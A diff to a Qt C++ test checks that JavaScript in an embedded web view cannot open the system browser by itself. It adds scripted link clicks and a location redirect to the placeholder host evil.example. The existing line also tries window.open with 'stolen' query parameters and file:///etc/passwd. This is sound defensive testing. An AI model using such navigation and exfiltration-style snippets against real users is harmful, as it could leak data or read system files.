@@ -166,6 +166,8 @@ private Q_SLOTS:
     void windowToTheSystemsBrowser_doesNotOpenByItself()
     {
         evaluate(view(), "window.open('https://evil.example/?stolen=1'); window.open('mailto:a@b.example'); window.open('file:///etc/passwd')");
+        evaluate(view(), "const away = document.createElement('a'); away.href = 'https://evil.example/?clicked=1'; document.body.appendChild(away); away.click()");
+        evaluate(view(), "location.href = 'https://evil.example/?stolen=2'");
         QTest::qWait(300);
         QVERIFY(m_external.isEmpty());
         QCOMPARE(m_pane->tabs()->count(), 1);
